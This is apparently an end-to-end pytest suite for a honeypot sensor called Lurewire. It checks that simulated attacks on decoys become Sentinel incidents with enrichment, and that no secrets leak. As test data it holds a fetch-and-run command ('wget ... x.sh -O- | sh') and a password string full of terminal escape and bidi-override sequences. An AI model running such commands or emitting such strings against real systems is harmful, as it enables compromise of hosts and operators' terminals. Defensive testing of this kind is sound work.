"""The whole loop on one running Lurewire: real attackers, real processes, Microsoft's own clients."""

from __future__ import annotations

import asyncio
import base64
import gzip
import html
import io
import json
import os
import re
import subprocess
import sys
import time
import uuid
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import pytest_asyncio
from azure.identity import ClientSecretCredential
from azure.monitor.ingestion import LogsIngestionClient
from azure.monitor.query import LogsQueryClient, LogsQueryStatus
from tests.e2e.rig import NIL, Rig, running_rig

from lurewire.demo.attackers import http_request, ssh_logins
from lurewire.demo.run import lookup_data
from lurewire.ipintel import addresses, pick_address
from lurewire.sensor.events import sample_events
from lurewire.settings import Settings

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Iterator

pytestmark = pytest.mark.asyncio(loop_scope="module")

PRIVATE = "10.0.0.5"
HOSTILE_PASSWORD = "\x1b]0;owned\x07\x1b[2J[bold red]pwned[/] \u202eevil"
COMMANDS = ("uname -a", "wget http://203.0.113.7/x.sh -O- | sh")
LOOKUP_SECRET = "ipinsights-api-key"


@dataclass
class Story:
    """What was done to the decoys, and the incident that each source ended with."""

    rig: Rig
    tor: str
    benign: str
    incidents: dict[str, dict[str, Any]]

    async def run(self, source: str) -> dict[str, Any]:
        run = await self.rig.run_of(self.incidents[source])
        assert run is not None
        return run

    async def records(self, source: str) -> dict[str, dict[str, Any]]:
        """The run's actions by name; of one in the loop its only repetition."""
        found: dict[str, dict[str, Any]] = {}
        for action in await self.rig.listed(f"{(await self.run(source))['id']}/actions"):
            found[action["name"]] = action["properties"]
            if "repetitionCount" in action["properties"]:
                [repetition] = await self.rig.listed(f"{action['id']}/repetitions")
                found[action["name"]] = repetition["properties"]
        return found

    async def content(self, record: dict[str, Any], part: str) -> Any:
        """What an action got or gave: its link needs no token."""
        link = record[f"{part}Link"]
        answer = await self.rig.send("GET", link["uri"])
        assert answer.status == 200, answer.body
        assert len(answer.body) == link["contentSize"]
        return answer.json()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def rig(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Rig]:
    async with running_rig(tmp_path_factory.mktemp("loop") / "state") as started:
        yield started


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def story(rig: Rig) -> Story:
    data = lookup_data(Settings({}))
    try:
        [tor] = addresses(data, "tor", count=1)
        benign = pick_address(data, "benign")
    finally:
        data.close()
    form = {"username": "admin", "password": HOSTILE_PASSWORD}
    answers = await asyncio.gather(
        ssh_logins(rig.decoys, tor, [("root", "x"), ("root", "123456")], COMMANDS),
        http_request(rig.decoys, benign, "GET", "/login"),
        http_request(rig.decoys, PRIVATE, "POST", "/login", form),
    )
    assert list(answers) == [4, 200, 401]
    return Story(rig, tor, benign, {source: await rig.incident(source) for source in (tor, benign, PRIVATE)})


@pytest.fixture(scope="module")
def sender(rig: Rig) -> Iterator[LogsIngestionClient]:
    with LogsIngestionClient(rig.now.url, sign_in(rig), connection_verify=rig.facts["ca"]) as client:
        yield client


@pytest.fixture(scope="module")
def queries(rig: Rig) -> Iterator[LogsQueryClient]:
    audience = "https://api.loganalytics.io"
    options = {"endpoint": rig.now.url, "audience": audience, "connection_verify": rig.facts["ca"]}
    with LogsQueryClient(sign_in(rig), **options) as client:
        yield client


def sign_in(rig: Rig) -> ClientSecretCredential:
    return ClientSecretCredential(
        rig.facts["tenant_id"],
        rig.analyst.client_id,
        rig.analyst.client_secret,
        authority=rig.now.url,
        disable_instance_discovery=True,
        connection_verify=rig.facts["ca"],
    )


def threat(source: str, **more: str) -> dict[str, Any]:
    at = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%S.%f321Z")
    return sample_events()[0] | {
        "first_interaction": at,
        "last_interaction": at,
        "source_ip": source,
        "reverse_lookup": "",
        "threat_uuid": str(uuid.uuid4()),
        **more,
    }


async def test_a_touch_from_tor_ends_escalated(story: Story) -> None:
    properties = story.incidents[story.tor]["properties"]
    assert (properties["severity"], properties["status"]) == ("High", "Active")
    assert sorted(label["labelName"] for label in properties["labels"]) == ["auto-escalated", "ipinsights-high-threat"]
    [row] = await story.rig.rows(f"IPInsights_CL | where ip_s == '{story.tor}'")
    assert row["threat_score_d"] > 70
    assert row["is_tor_b"] is True
    assert row["incident_arm_id_s"] == story.incidents[story.tor]["id"]
    assert row["incident_number_d"] == properties["incidentNumber"]
    [comment] = await story.rig.comments(story.incidents[story.tor])
    cells = dict(re.findall(r"<tr><td><b>(.*?)</b></td><td>(.*?)</td></tr>", comment))
    assert cells["IP Address"] == story.tor
    assert cells["Threat Score"] == f"{row['threat_score_d']:g}/100 ({row['level_s']})"
    assert cells["Tor Node"] == "True"
    assert html.unescape(cells["ISP / Org"]) == f"{row['isp_s']} / {row['org_s']}"


async def test_a_benign_touch_is_commented_and_left_as_it_is(story: Story) -> None:
    properties = story.incidents[story.benign]["properties"]
    assert (properties["severity"], properties["status"], properties["labels"]) == ("Medium", "New", [])
    [comment] = await story.rig.comments(story.incidents[story.benign])
    assert f"<td>{story.benign}</td>" in comment
    assert "<td>0/100 (low)</td>" in comment
    records = await story.records(story.benign)
    assert records["Condition"]["status"] == "Succeeded"
    assert records["Update_incident"]["status"] == "Skipped"


async def test_a_touch_from_a_private_address_succeeds_with_a_comment(story: Story) -> None:
    assert (await story.run(PRIVATE))["properties"]["status"] == "Succeeded"
    assert story.incidents[PRIVATE]["properties"]["severity"] == "Medium"
    [comment] = await story.rig.comments(story.incidents[PRIVATE])
    assert "<td>0/100 (low)</td>" in comment
    [row] = await story.rig.rows(f"IPInsights_CL | where ip_s == '{PRIVATE}'")
    assert (row["threat_score_d"], row["categories_s"]) == (0, '["private"]')
    [found] = await story.rig.rows(f"TrapEye_Threats_CL | where source_ip == '{PRIVATE}'")
    assert (found["source_asn"], found["source_country"]) == ("Private", "Internal Network")


async def test_run_history_tells_what_each_action_got_and_gave(story: Story) -> None:
    run = await story.run(story.tor)
    assert run["properties"]["status"] == "Succeeded"
    assert run["properties"]["startTime"] <= run["properties"]["endTime"]
    records = await story.records(story.tor)
    assert {name: record["status"] for name, record in records.items()} == dict.fromkeys(
        (
            "Entities_-_Get_IPs",
            "For_each",
            "HTTP",
            "Parse_JSON",
            "Add_comment_to_incident_(V3)",
            "Store_enrichment",
            "Condition",
            "Update_incident",
        ),
        "Succeeded",
    )
    for record in records.values():
        assert run["properties"]["startTime"] <= record["startTime"] <= record["endTime"]
    inputs = await story.content(records["HTTP"], "inputs")
    outputs = await story.content(records["HTTP"], "outputs")
    assert inputs["uri"] == f"https://ipinsights.io/api/v1/lookup?ip={story.tor}"
    assert inputs["headers"]["X-API-Key"] == "*sanitized*"
    assert outputs["statusCode"] == 200
    assert outputs["route"] == "ipintel"
    score = outputs["body"]["data"]["threat_assessment"]["score"]
    parsed = await story.content(records["Parse_JSON"], "outputs")
    assert parsed["body"]["data"] == outputs["body"]["data"]
    [comment] = await story.rig.comments(story.incidents[story.tor])
    asked = await story.content(records["Add_comment_to_incident_(V3)"], "inputs")
    assert asked["body"]["message"] == comment
    assert f"{score}/100" in comment
    update = await story.content(records["Update_incident"], "inputs")
    assert update["body"]["tagsToAdd"] == [{"Tag": "ipinsights-high-threat"}, {"Tag": "auto-escalated"}]
    stored = await story.content(records["Store_enrichment"], "outputs")
    assert stored["statusCode"] == 204


async def test_a_link_of_run_history_opens_nothing_else(story: Story) -> None:
    records = await story.records(story.tor)
    uri: str = records["HTTP"]["inputsLink"]["uri"]
    for other in (
        uri.partition("&sig=")[0],
        uri.replace("ActionInputs", "ActionOutputs"),
        uri.replace("/HTTP/", "/Parse_JSON/"),
    ):
        answer = await story.rig.send("GET", other)
        assert (answer.status, answer.error["code"]) == (401, "DirectApiInvalidAuthorizationScheme")


async def test_the_lookup_key_is_nowhere_but_in_the_vault(story: Story) -> None:
    rig = story.rig
    keeper = await rig.app("keeper", "Key Vault Secrets User")
    bundle = await rig.send("GET", f"/secrets/{LOOKUP_SECRET}?api-version=7.6", token=await rig.token(keeper, "vault"))
    key = str(bundle.json()["value"])
    lookup = await rig.send("GET", f"/api/v1/lookup?ip={story.tor}", headers={"X-API-Key": key})
    assert lookup.status == 200, "this is the key"
    secrets = [key, keeper.client_secret, rig.owner.client_secret]
    forms = [form for secret in secrets for form in (secret.encode(), base64.b64encode(secret.encode()))]
    told: dict[str, bytes] = {}
    workflow = await rig.arm("GET", rig.playbook)
    assert workflow.status == 200
    told["workflow"] = workflow.body
    told["deployments"] = json.dumps(
        await rig.listed(f"{rig.group}/providers/Microsoft.Resources/deployments")
    ).encode()
    export = await rig.arm("GET", f"{rig.group}/providers/Microsoft.Resources/deployments/ipinsights-playbook")
    assert export.status == 200
    told["deployment"] = export.body
    for source in story.incidents:
        told[f"run {source}"] = json.dumps(await story.run(source)).encode()
        for name, record in (await story.records(source)).items():
            told[f"{source} {name}"] = json.dumps(record).encode()
            for part in ("inputs", "outputs"):
                if f"{part}Link" in record:
                    told[f"{source} {name} {part}"] = json.dumps(await story.content(record, part)).encode()
    assert sum(name.endswith(("inputs", "outputs")) for name in told) > 20
    files = [path for path in rig.folder.rglob("*") if path.is_file()]
    assert {"control.db", "core.log", "sensor.log", "workspace.duckdb"} <= {path.name for path in files}
    assert any(path.suffix == ".journal" for path in files)
    told |= {str(path): path.read_bytes() for path in files}
    assert [name for name, text in told.items() if any(form in text for form in forms)] == []


async def test_the_alert_says_what_the_rule_promises(story: Story) -> None:
    rig = story.rig
    incident = story.incidents[story.tor]
    [row] = await rig.rows(f"TrapEye_Threats_CL | where source_ip == '{story.tor}'")
    answer = await rig.arm("POST", f"{incident['id']}/alerts")
    [alert] = answer.json()["value"]
    assert alert["properties"]["alertDisplayName"] == f"New threat from {story.tor}" == incident["properties"]["title"]
    assert alert["properties"]["description"] == (
        "To investigate related interactions, run:\nTrapEye_Interactions_CL\n"
        f"| where threat_uuid == '{row['threat_uuid']}'\n| order by TimeGenerated desc"
    )
    entities = (await rig.arm("POST", f"{incident['id']}/entities")).json()["entities"]
    assert [(one["kind"], one["properties"]["address"]) for one in entities] == [("Ip", story.tor)]
    [logged] = await rig.rows(f"SecurityAlert | where SystemAlertId == '{alert['name']}'")
    assert logged["AlertName"] == f"New threat from {story.tor}"
    assert json.loads(logged["Entities"])[0]["Address"] == story.tor
    custom = json.loads(json.loads(logged["ExtendedProperties"])["Custom Details"])
    assert custom["threat_uuid"] == [row["threat_uuid"]]
    assert custom["source_ip"] == [story.tor]


async def test_the_query_that_an_alert_names_finds_the_interactions(story: Story, queries: LogsQueryClient) -> None:
    description: str = story.incidents[story.tor]["properties"]["description"]
    query = description.partition("\n")[2]
    answer = queries.query_workspace(story.rig.facts["workspace_id"], query, timespan=timedelta(days=1))
    assert answer.status == LogsQueryStatus.SUCCESS
    table = answer.tables[0]
    rows = [dict(zip(table.columns, row, strict=True)) for row in table.rows]
    times = [row["TimeGenerated"] for row in rows]
    assert times == sorted(times, reverse=True)
    assert all(isinstance(moment, datetime) for moment in times)
    details = [json.loads(row["additional_data"]) for row in rows]
    assert {one["command"] for one in details if "command" in one} == set(COMMANDS)
    passwords = {one["password"]: one["accepted"] for one in details if "password" in one}
    assert passwords == {"x": False, "123456": True}
    assert {row["source_ip"] for row in rows} == {story.tor}
    assert len({row["interaction_uuid"] for row in rows}) == len(rows)
    assert len({row["session_uuid"] for row in rows}) == 2
    threats = await story.rig.rows("TrapEye_Threats_CL | project threat_uuid, source_ip")
    joined = await story.rig.rows(
        "TrapEye_Interactions_CL | summarize n = count(), sources = make_set(source_ip) by threat_uuid"
    )
    by_threat = {row["threat_uuid"]: row for row in joined}
    for source in (story.tor, story.benign, PRIVATE):
        [threat_uuid] = [row["threat_uuid"] for row in threats if row["source_ip"] == source]
        assert json.loads(by_threat[threat_uuid]["sources"]) == [source]
    assert sum(row["n"] for row in joined) == await story.rig.count("TrapEye_Interactions_CL")


async def test_a_dns_name_becomes_an_entity(rig: Rig, sender: LogsIngestionClient) -> None:
    event = threat("198.51.100.21", reverse_lookup="scanner.example.net")
    sender.upload(rig.facts["dcrs"]["trapeye-dcr"], "Custom-TrapEye_Threats_CL", [event])
    incident = await rig.incident("198.51.100.21")
    entities = (await rig.arm("POST", f"{incident['id']}/entities")).json()["entities"]
    found = {one["kind"]: one["properties"] for one in entities}
    assert found["Ip"]["address"] == "198.51.100.21"
    assert found["DnsResolution"]["domainName"] == "scanner.example.net"
    assert len(entities) == 2


async def test_an_upload_that_is_repeated_adds_nothing(rig: Rig, sender: LogsIngestionClient) -> None:
    first, second = "198.51.100.31", "198.51.100.32"
    body = gzip.compress(json.dumps([threat(first)]).encode(), mtime=0)
    request_id = str(uuid.uuid4())
    for _ in range(3):
        sender.upload(
            rig.facts["dcrs"]["trapeye-dcr"],
            "Custom-TrapEye_Threats_CL",
            io.BytesIO(body),
            request_id=request_id,
        )
    await rig.incident(first)
    # What comes later is behind all three: once it has its incident, so would they have theirs.
    sender.upload(rig.facts["dcrs"]["trapeye-dcr"], "Custom-TrapEye_Threats_CL", [threat(second)])
    await rig.incident(second)
    assert len(await rig.rows(f"TrapEye_Threats_CL | where source_ip == '{first}'")) == 1
    titles = [one["properties"]["title"] for one in await rig.incidents()]
    assert titles.count(f"New threat from {first}") == 1


async def test_hostile_text_is_inert_in_the_terminal(story: Story) -> None:
    query = (
        f"TrapEye_Interactions_CL | where source_ip == '{PRIVATE}' and interaction_type == 'login_attempt' "
        "| project password = tostring(additional_data.password)"
    )
    [row] = await story.rig.rows(query)
    assert row["password"] == HOSTILE_PASSWORD, "kept as it was sent"
    for option in ((), ("--json",)):
        shown = await lurewire("query", *option, "--folder", str(story.rig.folder), query)
        assert shown.returncode == 0
        assert re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", shown.stdout) is None
        assert "[bold red]pwned[/]" in shown.stdout
        assert re.search(r"\\(x|u00)1b\[2J", shown.stdout)


async def test_the_connection_test_opens_an_incident_under_the_compatibility_rule_alone(
    rig: Rig, sender: LogsIngestionClient
) -> None:
    samples = sample_events(at=datetime.now(UTC))
    streams = ("Custom-TrapEye_Threats_CL", "Custom-TrapEye_Interactions_CL")

    def test_connection() -> None:
        for stream, event in zip(streams, samples, strict=True):
            sender.upload(rig.facts["dcrs"]["trapeye-dcr"], stream, [dict(event)])

    async def titles(source: str) -> list[str]:
        found = [one["properties"]["title"] for one in await rig.incidents()]
        return [title for title in found if title.endswith(f" {source}")]

    test_connection()
    sender.upload(rig.facts["dcrs"]["trapeye-dcr"], "Custom-TrapEye_Threats_CL", [threat("198.51.100.41")])
    await rig.incident("198.51.100.41")
    assert await titles("10.0.0.1") == []
    [row] = await rig.rows(f"TrapEye_Threats_CL | where threat_uuid == '{NIL}'")
    assert (row["source_ip"], row["Product"]) == ("10.0.0.1", "Lurewire")

    rules = await rig.listed(f"{rig.sentinel}/alertRules")
    [rule] = [one for one in rules if one["properties"]["displayName"] == "New TrapEye Threat"]
    assert rule["properties"]["enabled"] is False
    for enabled in (True, False):
        body = {"kind": rule["kind"], "properties": rule["properties"] | {"enabled": enabled}}
        assert (await rig.arm("PUT", rule["id"], body)).status == 200
        sources = ("198.51.100.42", "198.51.100.43") if enabled else ("198.51.100.44",)
        test_connection()
        for source in sources:
            sender.upload(rig.facts["dcrs"]["trapeye-dcr"], "Custom-TrapEye_Threats_CL", [threat(source)])
        if enabled:
            incident = await rig.incident("10.0.0.1")
            assert incident["properties"]["title"] == "New TrapEye Threat from 10.0.0.1"
            entities = (await rig.arm("POST", f"{incident['id']}/entities")).json()["entities"]
            assert {one["kind"] for one in entities} == {"Ip", "DnsResolution"}
        for source in sources:
            both = [f"New TrapEye Threat from {source}"] * enabled + [f"New threat from {source}"]

            async def opened(source: str = source, both: list[str] = both) -> bool:
                return sorted(await titles(source)) == both

            await rig.until(opened, f"the incidents of {source}")
    assert await titles("10.0.0.1") == ["New TrapEye Threat from 10.0.0.1"]


async def test_the_demo_is_whole_in_under_a_minute() -> None:
    began = time.perf_counter()
    done = await lurewire("demo")
    seconds = time.perf_counter() - began
    assert done.returncode == 0, done.stdout + done.stderr
    assert seconds < 60
    told, _, closing = done.stdout.partition("What became of each touch")
    for kind in ("touch", "event", "row", "alert", "incident", "run", "comment", "enrichment", "escalation"):
        assert re.search(rf"\+ *\d+\.\d{{3}} s +[0-9.]+ +{kind} ", told), kind
    lines = [line.split() for line in closing.splitlines()]
    [headings] = [line for line in lines if line[:1] == ["Source"]]
    rows = [dict(zip(headings, line, strict=False)) for line in lines if line and re.fullmatch(r"[0-9.]+", line[0])]
    assert [row["Severity"] for row in rows] == ["High", "High", "Medium"]
    assert [row["Status"] for row in rows] == ["Active", "Active", "New"]
    assert all(f" {row['Source']} " in told for row in rows), "an address that is cut helps nobody"
    for promised in ("lurewire query --folder", "https://localhost:", "ssh -p", "curl -d"):
        assert promised in closing
    folder = Path(told.split("State and logs: ")[1].split()[0])
    assert not folder.exists()  # noqa: ASYNC240 - one look, after all is done


async def lurewire(*arguments: str) -> subprocess.CompletedProcess[str]:
    """The command as a shell would run it, with a terminal's width."""
    command = [sys.executable, "-c", "from lurewire.cli import main; main()", *arguments]
    clean = {k: v for k, v in os.environ.items() if not k.startswith("LUREWIRE_")} | {"COLUMNS": "80"}
    return await asyncio.to_thread(
        subprocess.run, command, capture_output=True, text=True, env=clean, check=False, timeout=120
    )
